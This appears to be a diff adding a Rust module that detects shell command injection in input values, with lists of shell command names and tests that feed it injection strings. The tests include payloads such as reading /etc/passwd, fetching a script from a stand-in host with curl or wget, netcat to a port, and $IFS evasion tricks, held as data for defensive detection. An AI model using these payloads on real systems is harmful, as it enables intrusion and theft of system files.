@@ -1,0 +1,280 @@
+//! The shell grammar: does a command stand where a shell would run one?
+
+/// The most bytes of a value that are read from the operator on.
+const READ_BYTES_MAX: usize = 512;
+
+/// The longest command word, after quotes are removed.
+const WORD_BYTES_MAX: usize = 32;
+
+/// Commands whose names are no words of a natural language.
+const COMMANDS: &[&str] = &[
+    "awk",
+    "base64",
+    "bash",
+    "busybox",
+    "certutil",
+    "chmod",
+    "chown",
+    "cmd",
+    "cmd.exe",
+    "crontab",
+    "csh",
+    "curl",
+    "dash",
+    "dig",
+    "fetch",
+    "gawk",
+    "gcc",
+    "grep",
+    "ifconfig",
+    "ipconfig",
+    "ksh",
+    "lua",
+    "mkdir",
+    "mkfifo",
+    "mknod",
+    "mshta",
+    "ncat",
+    "netcat",
+    "netstat",
+    "nohup",
+    "nslookup",
+    "openssl",
+    "perl",
+    "php",
+    "powershell",
+    "powershell.exe",
+    "printenv",
+    "pwsh",
+    "python",
+    "python2",
+    "python3",
+    "regsvr32",
+    "ruby",
+    "rundll32",
+    "scp",
+    "sed",
+    "socat",
+    "ssh",
+    "sudo",
+    "systeminfo",
+    "tcpdump",
+    "telnet",
+    "tftp",
+    "traceroute",
+    "uname",
+    "useradd",
+    "wget",
+    "whoami",
+    "wmic",
+    "xargs",
+    "zsh",
+];
+
+/// Commands that are also ordinary words or names: they need arguments that only a shell takes.
+const COMMON_WORDS: &[&str] = &[
+    "arp", "bin", "cat", "cp", "cut", "date", "del", "dir", "echo", "env", "eval", "exec", "export", "expr",
+    "find", "finger", "ftp", "groups", "head", "history", "host", "hostname", "id", "install", "kill",
+    "last", "less", "ln", "ls", "lsof", "mail", "more", "mount", "mv", "nc", "net", "nl", "nmap", "node",
+    "paste", "ping", "printf", "ps", "pwd", "reboot", "rev", "rm", "route", "set", "sh", "shutdown", "sleep",
+    "sort", "source", "strings", "su", "tac", "tail", "tar", "tee", "time", "timeout", "top", "touch",
+    "type", "uniq", "vi", "vim", "w", "wc", "who", "xxd",
+];
+
+/// What follows a command's name.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Follows {
+    /// The end of the value.
+    End,
+    /// An operator, a closing bracket or a comment.
+    Operator,
+    /// Something only a command line has: an option, a path, a variable, an address, a quoted word.
+    Argument,
+    /// Anything else, such as prose.
+    Other,
+}
+
+/// Whether the operator that the pattern matched at `start..end` is followed by a command and the command by what a
+/// command line goes on with.
+pub(super) fn is_command(value: &[u8], start: usize, end: usize) -> bool {
+    let stop = start.saturating_add(READ_BYTES_MAX).min(value.len());
+    let Some(text) = value.get(start..stop) else { return false };
+    let operator_length = text.iter().take_while(|byte| is_operator(**byte)).count();
+    if operator_length == 0 || start >= end {
+        return false;
+    }
+    let operator = &text[..operator_length];
+    let (word, rest) = command_word(&text[operator_length..]);
+    let word = word.as_slice();
+    let follows = what_follows(rest);
+    if COMMANDS.iter().any(|command| command.as_bytes() == word) {
+        return follows != Follows::Other
+            && !(operator == b"|" && follows == Follows::End && in_list(value, start));
+    }
+    if COMMON_WORDS.iter().any(|command| command.as_bytes() == word) {
+        return match follows {
+            Follows::Argument => true,
+            Follows::End | Follows::Operator => {
+                !in_list(value, start) && !matches!(operator, b"(" | b"{" | b"&")
+            }
+            Follows::Other => false,
+        };
+    }
+    false
+}
+
+fn is_operator(byte: u8) -> bool {
+    matches!(byte, b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' | b'$' | b'(' | b'{')
+}
+
+/// Whether the word before the operator at `start` touches it: `name|id` is a list of names, `1 | id` is not.
+fn in_list(value: &[u8], start: usize) -> bool {
+    let before = &value[..start];
+    let word =
+        before.iter().rev().take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-'));
+    word.take(WORD_BYTES_MAX).any(u8::is_ascii_alphabetic)
+}
+
+/// Reads a command's name as a shell would: white space and `$IFS` before it skipped, quotes and backslashes removed,
+/// the folder cut off, in lower case. Returns what comes after it as well.
+fn command_word(text: &[u8]) -> (Word, &[u8]) {
+    let mut rest = skip_blanks(text);
+    let mut word = Word::default();
+    while let Some((&byte, after)) = rest.split_first() {
+        match byte {
+            b'\'' | b'"' | b'\\' | b'^' => {}
+            b'$' if after.first() == Some(&b'@') => {
+                rest = &after[1..];
+                continue;
+            }
+            b'/' => word.clear(),
+            _ if byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-') => {
+                if !word.push(byte.to_ascii_lowercase()) {
+                    return (Word::default(), rest);
+                }
+            }
+            _ => break,
+        }
+        rest = after;
+    }
+    (word, rest)
+}
+
+fn skip_blanks(mut text: &[u8]) -> &[u8] {
+    loop {
+        text = text.trim_ascii_start();
+        match text
+            .strip_prefix(b"${IFS}")
+            .or_else(|| text.strip_prefix(b"$IFS$9"))
+            .or_else(|| text.strip_prefix(b"$IFS"))
+        {
+            Some(rest) => text = rest,
+            None => return text,
+        }
+    }
+}
+
+fn what_follows(rest: &[u8]) -> Follows {
+    let rest_trimmed = skip_blanks(rest);
+    let Some(&next) = rest_trimmed.first() else { return Follows::End };
+    match next {
+        b';' | b'|' | b'&' | b'`' | b')' | b'}' | b'#' | b'\n' => Follows::Operator,
+        b'>' | b'<' => Follows::Argument,
+        // A word that goes on, such as `id=` or `cat:`, is no command.
+        _ if rest.len() == rest_trimmed.len() => Follows::Other,
+        b'/' | b'~' | b'$' | b'*' | b'?' | b'%' => Follows::Argument,
+        b'-' => match rest_trimmed.get(1) {
+            Some(letter) if letter.is_ascii_alphanumeric() || *letter == b'-' => Follows::Argument,
+            _ => Follows::Other,
+        },
+        b'"' | b'\'' => Follows::Argument,
+        _ => {
+            let length = rest_trimmed.iter().take_while(|byte| !byte.is_ascii_whitespace()).count();
+            let argument = &rest_trimmed[..length];
+            let telling =
+                argument.iter().any(|byte| matches!(byte, b'/' | b'\\' | b'$' | b'*' | b'`' | b'>'))
+                    || argument.iter().all(|byte| byte.is_ascii_digit() || *byte == b'.')
+                    || (argument.contains(&b'.') && argument.last() != Some(&b'.'));
+            if telling { Follows::Argument } else { Follows::Other }
+        }
+    }
+}
+
+/// A short word on the stack.
+#[derive(Debug, Default)]
+struct Word {
+    bytes: [u8; WORD_BYTES_MAX],
+    length: usize,
+}
+
+impl Word {
+    fn push(&mut self, byte: u8) -> bool {
+        let Some(slot) = self.bytes.get_mut(self.length) else { return false };
+        *slot = byte;
+        self.length += 1;
+        true
+    }
+
+    const fn clear(&mut self) {
+        self.length = 0;
+    }
+
+    fn as_slice(&self) -> &[u8] {
+        &self.bytes[..self.length]
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::is_command;
+
+    fn check(text: &str) -> bool {
+        let start = text.find([';', '|', '&', '`', '$', '\n']).unwrap();
+        is_command(text.as_bytes(), start, text.len())
+    }
+
+    #[test]
+    fn commands() {
+        for text in [
+            ";cat /etc/passwd",
+            "1; id",
+            "127.0.0.1|id",
+            "x && whoami",
+            "a;c''at /etc/hosts",
+            ";/bin/c\\at /x",
+            "`id`",
+            "$(id)",
+            "$(curl http://x.example/a)",
+            ";ping -c 3 10.0.0.1",
+            "| ping 127.0.0.1",
+            ";cat${IFS}/etc/hosts",
+            "\nwget http://x.example/s.sh",
+            ";nc 10.0.0.1 4444",
+            ";sleep 5",
+            ";uname -a",
+            "|whoami;",
+        ] {
+            assert!(check(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn prose_and_lists() {
+        for text in [
+            "name|id|type",
+            "tea; cat and dog",
+            "cats & dogs",
+            "a;id=5",
+            "x; find out more",
+            "read it; more follows",
+            "black|cat",
+            "a && b",
+            "price is $ (about",
+            "u;q=0.9",
+            "one; curl is a tool",
+            "fish & date",
+        ] {
+            assert!(!check(text), "{text}");
+        }
+    }
+}
